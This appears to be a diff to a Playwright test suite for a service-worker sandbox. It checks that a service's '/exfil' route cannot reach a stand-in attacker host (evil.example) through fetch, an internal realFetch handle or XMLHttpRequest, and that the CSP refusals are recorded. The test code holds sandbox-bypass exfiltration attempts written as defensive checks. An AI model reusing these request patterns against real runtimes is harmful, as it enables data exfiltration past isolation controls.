@@ -141,7 +141,10 @@ test.describe('service workers', () => {
       String.raw`
   app.get('/exfil', async (c) => {
     const outcome = async (fn) => { try { const r = await fn(); return 'ok:' + (await r.text()); } catch (error) { return 'blocked:' + error.message; } };
-    return c.json({
+    // The browser reports what the worker's CSP refused (a DNS failure would report nothing).
+    const refused = [];
+    self.addEventListener('securitypolicyviolation', (event) => refused.push(event.effectiveDirective + ' ' + event.blockedURI));
+    const result = {
       fetch: await outcome(() => fetch('${EVIL}/fetch')),
       realFetch: await outcome(() => globalThis.__sandboxRuntime.realFetch('${EVIL}/real')),
       xhr: await new Promise((resolve) => { try { const x = new XMLHttpRequest(); x.open('GET', '${EVIL}/xhr'); x.onload = () => resolve('ok:' + x.responseText); x.onerror = () => resolve('blocked:error'); x.send(); } catch (error) { resolve('blocked:' + error.name); } }),
@@ -151,15 +154,19 @@ test.describe('service workers', () => {
       broadcastChannel: typeof globalThis.BroadcastChannel,
       nestedWorker: typeof globalThis.Worker,
       locks: typeof navigator.locks,
-    });
+    };
+    await new Promise((resolve) => setTimeout(resolve, 100));
+    return c.json({ ...result, refused });
   });`,
     );
     const response = await page.evaluate(() => (window as any).engine.request({ service: 'products-service', method: 'GET', path: '/exfil' }));
     expect(response.status).toBe(200);
-    const body = JSON.parse(response.text) as Record<string, string>;
+    const body = JSON.parse(response.text) as Record<string, string> & { refused: string[] };
     expect(body.fetch).toContain('el sandbox del navegador no deja que un servicio llame a otro origen (https://evil.example)');
     expect(body.realFetch).toMatch(/^blocked:/);
     expect(body.xhr).toMatch(/^blocked:/);
+    // The runtime's CSP refused both requests that bypass the patched fetch.
+    expect(body.refused).toEqual(expect.arrayContaining([`connect-src ${EVIL}/real`, `connect-src ${EVIL}/xhr`]));
     expect(body).toMatchObject({ indexedDB: 'undefined', indexedDBFromPrototype: 'undefined', caches: 'undefined', broadcastChannel: 'undefined', nestedWorker: 'undefined', locks: 'undefined' });
     expect(evil).toEqual([]);
   });
